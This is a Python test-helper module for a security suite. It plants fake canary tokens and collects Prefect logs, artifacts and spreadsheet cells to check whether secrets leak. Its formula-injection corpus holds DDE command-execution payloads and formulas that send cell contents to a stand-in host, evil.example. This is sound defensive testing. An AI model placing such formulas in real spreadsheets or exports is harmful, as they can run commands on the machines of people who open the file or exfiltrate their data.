"""Pieces of the security suite: canary secrets, a formula-injection corpus, and the places a
secret could end up (Prefect logs and artifacts read back from the API, every sheet cell)."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest

from flows import sandbox_env
from sandbox.sheets import SheetsState
from sandbox.sheets.model import cell_value, is_formula_cell

CANARIES = {
    "JIRA_API_TOKEN": "tok-LEAK-CANARY-jira-123",
    "BAMBOOHR_API_KEY": "tok-LEAK-CANARY-bamboohr-123",
    "INTERCOM_ACCESS_TOKEN": "tok-LEAK-CANARY-intercom-123",
    "OPSHEETS_SANDBOX_GOOGLE": json.dumps(
        {"type": "opsheets-sandbox", "token": "tok-LEAK-CANARY-google-123"}
    ),
}
CANARY_MARK = "LEAK-CANARY"
# A secret sent as HTTP basic auth (BambooHR: key as user name, "x" as password) leaks as base64.
BASIC_FORMS = [
    base64.b64encode(f"{CANARIES['BAMBOOHR_API_KEY']}:x".encode()).decode(),
    base64.b64encode(f"sandbox-bot@example.com:{CANARIES['JIRA_API_TOKEN']}".encode()).decode(),
]

FORMULA_CORPUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",B2),"//a")',
    '=IMAGE("https://evil.example/pixel.png")',
    "=",
    "==1",
    "'=1+1",
    " =1+1",
    "=1+1\n=2+2",
    'DDE("cmd";"/C calc";"!A0")',
    "\x0b=1+1 pasted with a vertical tab",  # openpyxl refuses raw control characters
    "_x0041_ looks like an OOXML escape",
]


@contextmanager
def canary_secrets() -> Iterator[None]:
    """The sandbox stand-ins accept, and the environment carries, the canaries instead of the demo tokens."""
    with pytest.MonkeyPatch.context() as patch:
        for name, value in CANARIES.items():
            patch.setitem(sandbox_env.SANDBOX_SECRETS, name, value)
        yield


def leaks(text: str) -> list[str]:
    """The canary marker (every canary holds it) or a canary's basic-auth form, where found in `text`."""
    return [mark for mark in [CANARY_MARK, *BASIC_FORMS] if mark in text]


def texts(value: Any) -> Iterator[str]:
    """Every string inside nested lists, dicts, dataclasses or pydantic models."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield from texts(k)
            yield from texts(v)
    elif isinstance(value, list | tuple | set):
        for v in value:
            yield from texts(v)
    elif hasattr(value, "model_dump"):
        yield from texts(value.model_dump(mode="json"))
    elif hasattr(value, "__dataclass_fields__"):
        yield from texts({f: getattr(value, f) for f in value.__dataclass_fields__})
    elif value is not None:
        yield repr(value)


def prefect_records() -> dict[str, list[str]]:
    """Everything the Prefect API keeps that a person can read: logs and artifacts of every run."""
    from prefect.client.orchestration import get_client
    from prefect.logging.handlers import APILogWorker

    APILogWorker.drain_all(timeout=300)  # returns once drained; a ceiling only
    with get_client(sync_client=True) as client:
        logs = [log.message for log in client.read_logs(limit=None)]
        artifacts = [json.dumps(a.data, default=str) for a in client.read_artifacts()]
        artifacts += [a.description or "" for a in client.read_artifacts()]
    return {"logs": logs, "artifacts": artifacts}


def google_cells(state: SheetsState) -> Iterator[tuple[str, str, int, int, Any, bool]]:
    """(spreadsheet title, tab, row, col, value, is formula) of every stored cell in the stand-in."""
    with state.lock:
        for book in state.spreadsheets.values():
            for sheet in book.sheets:
                for (row, col), stored in sheet.cells.items():
                    yield book.title, sheet.title, row, col, cell_value(stored), is_formula_cell(stored)
                    if stored.get("note"):
                        yield book.title, sheet.title, row, col, stored["note"], False
